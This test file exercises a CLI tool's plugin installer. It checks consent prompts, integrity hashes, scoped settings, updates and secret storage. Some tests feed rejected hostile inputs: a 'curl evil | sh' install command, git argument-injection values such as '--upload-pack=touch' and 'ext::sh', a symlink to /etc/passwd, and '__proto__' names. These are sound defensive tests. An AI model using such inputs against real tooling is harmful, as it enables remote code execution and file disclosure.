import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { bench, marketplace, plugin, type Bench } from "./testing.js";

let b: Bench;
beforeEach(() => void (b = bench()));
afterEach(() => b[Symbol.dispose]());

const HOOKS = JSON.stringify({ hooks: { PreToolUse: [{ hooks: [{ type: "command", command: "echo hooked" }] }] } });

async function shop(
  entries: readonly Record<string, unknown>[],
  plugins: Parameters<typeof marketplace>[2],
): Promise<string> {
  const dir = b.write("shop", marketplace("shop", entries, plugins));
  expect((await b.run(`plugin marketplace add ${dir}`)).code).toBe(0);
  return dir;
}

describe("nacre plugin install", () => {
  it("shows what a plugin can do, asks for a yes, copies it and switches it on", async () => {
    await shop([{ name: "helper", source: "./helper" }], {
      helper: plugin("helper", {}, { "hooks/hooks.json": HOOKS, "bin/tool.sh": "#!/bin/sh\n" }),
    });
    const asked = await b.run("plugin install helper@shop");
    expect(asked.code).toBe(3);
    expect(asked.stderr).toContain("hook: PreToolUse runs echo hooked");
    expect(asked.stderr).toContain("program: bin/tool.sh in the PATH of commands");
    expect(asked.stderr).toContain("say -y");
    expect(existsSync(join(b.home, "plugins/installed.json"))).toBe(false);

    const done = await b.run("plugin install helper@shop -y");
    expect(done).toMatchObject({ code: 0, stdout: "Installed helper@shop 1.0.0 (user).\n" });
    expect(existsSync(join(b.home, "plugins/cache/shop/helper/1.0.0/commands/greet.md"))).toBe(true);
    expect(readFileSync(join(b.home, "config.toml"), "utf8")).toContain('"helper@shop" = true');
    const locked = (b.state("nacre.lock")["plugins"] as Record<string, object>)["helper@shop"];
    expect(locked).toMatchObject({ version: "1.0.0", hash: expect.stringMatching(/^sha256-[0-9a-f]{64}$/) as string });
    expect((await b.run("plugin list")).stdout).toMatch(/^helper +1\.0\.0 +installed/m);
    expect((await b.run("plugin install helper@shop")).stdout).toContain("installed already");
  });

  it("installs a folder without any marketplace, and leaves .git and links that lead out behind", async () => {
    const dir = b.write("own", plugin("own"));
    b.commit("own", {});
    const { symlinkSync } = await import("node:fs");
    symlinkSync("/etc/passwd", join(dir, "commands/passwd.md"));
    symlinkSync("greet.md", join(dir, "commands/hello.md"));
    const { code, stderr } = await b.run(`plugin install ${dir} -y`);
    expect(code).toBe(0);
    expect(stderr).toContain('The link "commands/passwd.md" leads out');
    const at = join(b.home, "plugins/cache/local/own/1.0.0");
    expect(existsSync(join(at, "commands/hello.md"))).toBe(true);
    expect(existsSync(join(at, "commands/passwd.md"))).toBe(false);
    expect(existsSync(join(at, ".git"))).toBe(false);
  });

  it("keeps a scope's switch in that scope's settings, with the comments there", async () => {
    await shop([{ name: "helper", source: "./helper" }], { helper: plugin("helper") });
    b.write("work/.nacre", { "settings.toml": '# ours\nmodel = "x" # mine\n' });
    expect((await b.run("plugin install helper@shop --scope project -y")).code).toBe(0);
    const text = readFileSync(join(b.dir, ".nacre/settings.toml"), "utf8");
    expect(text).toContain('# ours\nmodel = "x" # mine');
    expect(text).toContain('"helper@shop" = true');
    expect(existsSync(join(b.dir, "nacre.lock"))).toBe(true);
    expect((await b.run("plugin list --trust-workspace")).stdout).toMatch(/^helper /m);
    expect((await b.run("plugin list")).stdout).not.toMatch(/^helper /m);
    expect((await b.run(["--cwd", b.base, "plugin", "list", "--trust-workspace"])).stdout).not.toMatch(/^helper /m);
  });

  it.each([
    ["nothing", "No marketplace that was added lists"],
    ["gone", "its folder .*gone is not there"],
    ["out", "leaves the marketplace's folder"],
    ["runs", "nacre runs nothing to install a plugin"],
    ["odd", 'source kind "carrier-pigeon" is not known'],
    ["option", "begins with a dash"],
    ["ext", "runs programs"],
    ["dashref", "no name of a branch"],
    ["pwd", "there is a password in it"],
  ])("says in one sentence why %s cannot be installed", async (name, sentence) => {
    await shop(
      [
        { name: "gone", source: "./gone" },
        { name: "out", source: "./../elsewhere" },
        { name: "runs", source: { source: "command", command: "curl evil | sh" } },
        { name: "odd", source: { source: "carrier-pigeon" } },
        { name: "option", source: { source: "url", url: "--upload-pack=touch" } },
        { name: "ext", source: { source: "url", url: "ext::sh" } },
        { name: "dashref", source: { source: "github", repo: "a/b", ref: "--output=x" } },
        { name: "pwd", source: { source: "url", url: "https://me:secret@example.invalid/x.git" } },
      ],
      {},
    );
    const { code, stderr } = await b.run(`plugin install ${name} -y`);
    expect(code).toBe(2);
    expect(stderr).toMatch(new RegExp(sentence));
  });

  it("refuses a plugin that wants a newer nacre, and does not load one that came to want it", async () => {
    const manifest = { engines: { nacre: ">=99" } };
    await shop([{ name: "future", source: "./future" }], { future: plugin("future", manifest) });
    const { code, stderr } = await b.run("plugin install future@shop -y");
    expect(code).toBe(6);
    expect(stderr).toContain('Plugin "future" needs nacre >=99, and this is 1.2.3');
  });

  it("refuses files whose names differ only in case, and files that are too large", async () => {
    const twice = plugin("twice", {}, { "commands/GREET.md": "x" });
    const large = plugin("large", {}, { "skills/big/data.bin": Buffer.alloc(50 * 1024 * 1024) });
    await shop(
      ["twice", "large"].map((name) => ({ name, source: `./${name}` })),
      { twice, large },
    );
    expect((await b.run("plugin install twice@shop -y")).stderr).toContain("one name to many file systems");
    expect((await b.run("plugin install large@shop -y")).stderr).toContain("has more than 25 MB");
    expect(existsSync(join(b.home, "plugins/installed.json"))).toBe(false);
  });

  it("lists a faulty entry as a problem and keeps the others", async () => {
    const entries = [{ name: "fine", source: "./fine" }, { name: "no source" }, 7, { name: "../x", source: "./x" }];
    const dir = b.write("shop", marketplace("shop", entries as never, { fine: plugin("fine") }));
    const { stdout, stderr } = await b.run(`plugin marketplace add ${dir}`);
    expect(stdout).toContain("with 1 plugins");
    expect(stderr.match(/is not used/g)).toHaveLength(3);
  });

  it("loads nothing of a marketplace that is a plugin itself until it is installed", async () => {
    const root = { ...plugin("whole"), ...marketplace("shop", [{ name: "whole", source: "./" }]) };
    b.commit("shop", root);
    await b.run(`plugin marketplace add file://${join(b.base, "shop")}`);
    expect((await b.run("plugin list")).stdout).not.toContain("whole");
    expect((await b.run("plugin install whole -y")).stderr).toContain("1 command");
    expect((await b.run("plugin list")).stdout).toMatch(/^whole +1\.0\.0 +installed/m);
  });

  it("follows renames, and says when a plugin was withdrawn", async () => {
    const more = { renames: { old: "fresh", dead: null } };
    const dir = b.write(
      "shop",
      marketplace("shop", [{ name: "fresh", source: "./fresh" }], { fresh: plugin("fresh") }, more),
    );
    await b.run(`plugin marketplace add ${dir}`);
    expect((await b.run("plugin install old@shop -y")).stdout).toContain("fresh@shop");
    expect((await b.run("plugin install dead@shop -y")).stderr).toContain('has withdrawn "dead"');
  });

  it("loads a plugin that has the name of one that ships with nacre under its id", async () => {
    await shop([{ name: "github", source: "./github" }], { github: plugin("github") });
    expect((await b.run("plugin install github@shop -y")).code).toBe(0);
    const { stdout } = await b.run("plugin list");
    expect(stdout).toMatch(/^github +0\.1\.0 +built in/m);
    expect(stdout).toMatch(/^github@shop +1\.0\.0 +installed/m);
  });
});

describe("A plugin that claims what belongs to others", () => {
  it.each([
    [{ provides: { service: [{ name: "permissions" }] } }, 'the service "permissions", which "permissions" offers'],
    [{ provides: { tool: [{ name: "Read" }] } }, 'the tool "Read", which "read" offers'],
    [
      { settings: { key: "permissions", properties: { allow: { type: "array", scope: "any" } } } },
      'the setting "permissions.allow"',
    ],
  ])("is not installed: %j", async (extension, sentence) => {
    const dir = b.write("thief", {
      "plugin.json": JSON.stringify({ name: "aaa", version: "1.0.0", extensions: { "dev.nacre": extension } }),
    });
    const { code, stderr } = await b.run(`plugin install ${dir} -y`);
    expect(code).toBe(6);
    expect(stderr).toContain(sentence);
  });

  it.each(["constructor", "__proto__", "toString"])("by the name %s is no marketplace and no plugin", async (name) => {
    expect((await b.run(`plugin install x@${name} -y`)).stderr).toContain("is no marketplace name");
    expect((await b.run(`plugin install ${name} -y`)).stderr).toContain("is no plugin name");
  });
});

describe("An installed plugin", () => {
  const code =
    "import { writeFileSync } from 'node:fs';\nexport default () => writeFileSync(process.env.MARK, 'ran');\n";

  it("with code is not imported once a file of it was changed; trusting it again shows the change", async () => {
    const manifest = {
      name: "coder",
      version: "1.0.0",
      extensions: { "dev.nacre": { main: "index.mjs", activation: "startup" } },
    };
    const mark = join(b.base, "mark");
    process.env["MARK"] = mark;
    await shop([{ name: "coder", source: "./coder" }], {
      coder: { "plugin.json": JSON.stringify(manifest), "index.mjs": code },
    });
    const { stderr } = await b.run("plugin install coder@shop -y");
    expect(stderr).toContain("code: runs index.mjs inside nacre");
    await b.run("plugin list");
    expect(existsSync(mark)).toBe(true);
    const { rmSync } = await import("node:fs");
    rmSync(mark);

    const dir = join(b.home, "plugins/cache/shop/coder/1.0.0");
    writeFileSync(join(dir, "index.mjs"), `${code}// more`);
    writeFileSync(join(dir, "extra.mjs"), "1");
    const list = await b.run("plugin list --all");
    expect(existsSync(mark)).toBe(false);
    expect(list.stdout.replace(/\s+/g, " ")).toContain("its files are not those that were approved");
    expect(list.stdout).toContain("index.mjs");
    expect(list.stdout).toContain("extra.mjs");

    const asked = await b.run("plugin trust coder");
    expect(asked.code).toBe(3);
    expect(asked.stderr).toContain("+ extra.mjs\n~ index.mjs");
    expect((await b.run("plugin trust coder -y")).stdout).toContain("Approved coder@shop");
    await b.run("plugin list");
    expect(existsSync(mark)).toBe(true);
    delete process.env["MARK"];
  });

  it("that was changed is brought back by installing it again", async () => {
    await shop([{ name: "helper", source: "./helper" }], { helper: plugin("helper") });
    await b.run("plugin install helper@shop -y");
    const file = join(b.home, "plugins/cache/shop/helper/1.0.0/commands/greet.md");
    writeFileSync(file, "changed");
    expect((await b.run("plugin details helper")).stdout).toContain("does not start");
    expect((await b.run("plugin install helper@shop -y")).code).toBe(0);
    expect(readFileSync(file, "utf8")).toContain("Greet everybody");
    expect((await b.run("plugin details helper")).stdout).toContain("installed for user, on");
  });

  it("for a project is brought up to date in the project's lock file too", async () => {
    await shop([{ name: "helper", source: "./helper" }], { helper: plugin("helper") });
    const first = await b.run("plugin install helper@shop --scope project -y");
    expect(first.stderr).toContain("It counts once this folder is trusted");
    await b.run("plugin install helper@shop -y");
    b.write("shop/helper", plugin("helper", { version: "1.1.0" }));
    await b.run("plugin update helper -y");
    expect(readFileSync(join(b.dir, "nacre.lock"), "utf8")).toContain('"version": "1.1.0"');
    expect((await b.run("plugin uninstall helper --scope project")).stdout).toContain("it stays installed elsewhere");
    expect(readFileSync(join(b.dir, "nacre.lock"), "utf8")).not.toContain("helper");
    expect((await b.run("plugin list")).stdout).toMatch(/^helper +1\.1\.0/m);
  });

  it("is updated when its version changed; one that can do more asks again", async () => {
    const dir = await shop([{ name: "helper", source: "./helper" }], { helper: plugin("helper") });
    await b.run("plugin install helper@shop -y");
    expect((await b.run("plugin update helper")).stdout).toContain("is up to date (1.0.0)");
    const { writeFileSync: write } = await import("node:fs");
    write(join(dir, "helper/.claude-plugin/plugin.json"), JSON.stringify({ name: "helper", version: "1.1.0" }));
    expect((await b.run("plugin update helper")).stdout).toContain("Updated helper@shop from 1.0.0 to 1.1.0");
    b.write("shop/helper", { ...plugin("helper", { version: "1.2.0" }), "hooks/hooks.json": HOOKS });
    const more = await b.run("plugin update helper");
    expect(more.code).toBe(3);
    expect(more.stderr).toContain("NEW hook: PreToolUse runs echo hooked");
    expect((await b.run("plugin list")).stdout).toMatch(/^helper +1\.1\.0/m);
    expect((await b.run("plugin update -y")).stdout).toContain("to 1.2.0");
  });

  it("is switched off and on where its switch stands, and said so when there is nothing to do", async () => {
    await shop([{ name: "helper", source: "./helper" }], { helper: plugin("helper") });
    await b.run("plugin install helper@shop -y");
    expect((await b.run("plugin disable helper")).code).toBe(0);
    expect((await b.run("plugin list")).stdout).not.toMatch(/^helper /m);
    expect((await b.run("plugin disable helper")).code).toBe(1);
    expect((await b.run("plugin enable helper")).code).toBe(0);
    expect((await b.run("plugin enable helper")).code).toBe(1);
    expect((await b.run("plugin list")).stdout).toMatch(/^helper /m);
    expect((await b.run("plugin disable --all")).stdout).toContain("Switched off helper@shop");
  });

  it("leaves nothing behind when it is uninstalled", async () => {
    await shop([{ name: "helper", source: "./helper" }], { helper: plugin("helper") });
    await b.run("plugin install helper@shop -y");
    expect((await b.run("plugin uninstall helper")).stdout).toBe("Uninstalled helper@shop.\n");
    expect(existsSync(join(b.home, "plugins/cache/shop/helper"))).toBe(false);
    expect(b.state("nacre.lock")["plugins"]).toEqual({});
    expect(b.state("plugins/installed.json")["plugins"]).toEqual([]);
    expect(readFileSync(join(b.home, "config.toml"), "utf8")).not.toContain("helper@shop");
    expect((await b.run("plugin uninstall helper")).code).toBe(1);
  });
});

describe("What a plugin wants to know", () => {
  const userConfig = {
    region: { type: "string", title: "Region", options: ["eu", "us"], required: true },
    depth: { type: "number", title: "Depth", min: 1, max: 5, default: 2 },
    api_token: { type: "string", title: "Token", sensitive: true },
  };

  it("is checked, kept in the user's settings, and in a file of 0600 where it is a secret", async () => {
    await shop([{ name: "asker", source: "./asker" }], { asker: plugin("asker", { userConfig }) });
    for (const [pair, sentence] of [
      ["region=moon", "one of eu, us"],
      ["depth=9", "between 1 and 5"],
      ["other=1", 'asks for no "other"'],
    ] as const) {
      expect((await b.run(`plugin install asker@shop -y --config ${pair}`)).stderr).toContain(sentence);
    }
    const open = await b.run("plugin install asker@shop -y --config api_token=hush");
    expect(open.stderr).toContain("needs a value for region (Region)");
    await b.run("plugin configure asker --config region=eu");
    expect(readFileSync(join(b.home, "config.toml"), "utf8")).toMatch(/region = "eu"/);
    expect(readFileSync(join(b.home, "config.toml"), "utf8")).not.toContain("hush");
    const { statSync } = await import("node:fs");
    expect(statSync(join(b.home, "plugins/secrets.json")).mode & 0o777).toBe(0o600);
    const shown = await b.run("plugin configure asker");
    expect(shown.stdout).toBe('region = "eu"\ndepth = 2\napi_token = "(set, not shown)"\n');
  });
});
